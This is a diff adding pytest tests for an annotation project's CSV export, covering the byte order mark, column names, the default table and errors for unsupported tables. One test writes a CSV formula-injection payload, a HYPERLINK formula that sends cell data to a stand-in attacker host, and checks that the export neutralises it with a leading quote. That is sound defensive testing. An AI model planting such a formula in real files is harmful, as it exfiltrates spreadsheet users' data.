@@ -192,6 +192,50 @@ class TestExport:
             ("annotator2", wider(annotated), "with the name")
         ]
 
+    def test_csv_starts_with_a_byte_order_mark_and_names_title_and_source(self, client_for, owner, project,
+                                                                           annotated):  # fmt: skip
+        response = client_for(owner).get(url(project, "export"), {"format": "csv", "annotator": "annotator"})
+
+        data = body(response)
+        assert data.startswith(b"\xef\xbb\xbfdocument_id,external_id,title,source,annotator,")
+        [row] = list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"))))
+        assert (row["title"], row["source"], row["text"]) == ("Talks resume", "Wire One", "told reporters")
+
+    def test_a_csv_note_that_would_run_as_a_formula_goes_out_quoted(self, client_for, owner, annotator, project,
+                                                                    document, label):  # fmt: skip
+        start = document.text.index("told reporters")
+        span_create(member=access_project(annotator, project.pk), document=document, label=label.pk, start=start,
+                    end=start + 14, note='=HYPERLINK("http://evil.example/?"&A1,"click")')  # fmt: skip
+
+        response = client_for(owner).get(url(project, "export"), {"format": "csv"})
+
+        [row] = list(csv.DictReader(io.StringIO(body(response).decode("utf-8-sig"))))
+        assert row["note"] == '\'=HYPERLINK("http://evil.example/?"&A1,"click")'
+
+    def test_csv_table_spans_is_the_default(self, client_for, owner, project, annotated):
+        client = client_for(owner)
+
+        default = body(client.get(url(project, "export"), {"format": "csv"}))
+        spans = body(client.get(url(project, "export"), {"format": "csv", "table": "spans"}))
+
+        assert default == spans
+
+    @pytest.mark.parametrize(
+        ("params", "message"),
+        [
+            ({"format": "csv", "table": "relations"}, "The csv export has no relations table yet"),
+            ({"format": "csv", "table": "answers"}, "The csv export has no answers table yet"),
+            ({"format": "csv", "table": "rows"}, "Unknown table 'rows'"),
+            ({"format": "jsonl", "table": "relations"}, "Only the csv export has tables"),
+        ],
+    )
+    def test_a_table_the_export_does_not_have_is_a_400_that_says_why(self, client_for, owner, project, params,
+                                                                     message):  # fmt: skip
+        response = client_for(owner).get(url(project, "export"), params)
+
+        assert response.status_code == 400
+        assert response.json()["table"][0].startswith(message)
+
     def test_brat_ann_offsets_slice_the_txt(self, client_for, owner, project, annotated):
         response = client_for(owner).get(url(project, "export"), {"format": "brat", "annotator": "annotator"})
 
